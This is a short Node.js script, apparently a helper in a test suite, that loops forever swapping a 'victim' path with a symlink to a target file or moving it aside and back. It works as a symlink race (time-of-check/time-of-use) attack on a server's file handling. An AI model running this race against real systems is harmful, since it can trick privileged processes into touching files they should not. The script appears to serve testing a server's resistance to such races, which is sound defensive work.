// The attacker where there is no C compiler: slower, and without the atomic exchange. For ever swaps VICTIM with
// a symlink to TARGET and back, or (away) moves it out to ASIDE and back; see attacker.c for the arguments.
import { openSync, renameSync, symlinkSync, unlinkSync, writeSync } from 'node:fs';

const [, , manner, victim, target, aside, counter] = process.argv;
const fd = openSync(counter, 'w');
let swaps = 0;
process.stdout.write('ready');
for (;;) {
  try {
    renameSync(victim, aside);
    if (manner === 'rename') {
      symlinkSync(target, victim);
      unlinkSync(victim);
    }
    renameSync(aside, victim);
    swaps += 1;
  } catch {
    // The server renamed onto the victim in between; put things right and go on.
    try {
      unlinkSync(victim);
    } catch {}
    try {
      renameSync(aside, victim);
    } catch {}
  }
  if (swaps % 16 === 0) writeSync(fd, `\n${swaps} 0 0`);
}
